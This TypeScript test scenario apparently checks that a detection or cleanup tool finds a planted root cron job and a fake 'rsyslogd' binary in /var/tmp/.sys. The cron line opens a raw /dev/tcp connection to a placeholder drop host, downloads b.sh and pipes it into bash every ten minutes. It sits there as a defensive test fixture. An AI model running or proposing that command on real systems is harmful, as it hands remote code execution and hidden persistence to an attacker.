import { scenario } from '../scenario.ts';
import { addCron, dropHost } from '../words.ts';

export default scenario({
  what: 'a loader that speaks HTTP by itself',
  report: 'Hosts without curl and wget: `exec 3<>/dev/tcp/…`, run by cron and read into bash.',
  plant: {
    images: ['/var/tmp/.sys/rsyslogd'],
    start: `${addCron('root', [`*/10 * * * * bash -c 'exec 3<>/dev/tcp/${dropHost.replace(':', '/')}; printf "GET /b.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 | bash' >/dev/null 2>&1`, '@reboot /var/tmp/.sys/rsyslogd'])}
run /var/tmp/.sys/rsyslogd`,
    runs: ['/var/tmp/.sys/rsyslogd'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['/var/tmp/.sys/rsyslogd'],
      files: ['/var/tmp/.sys/rsyslogd'],
      starters: [
        `*/10 * * * * bash -c 'exec 3<>/dev/tcp/${dropHost.replace(':', '/')}; printf "GET /b.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 | bash' >/dev/null 2>&1`,
        '@reboot /var/tmp/.sys/rsyslogd',
      ],
    },
    resolution: 'cleaned',
  },
});
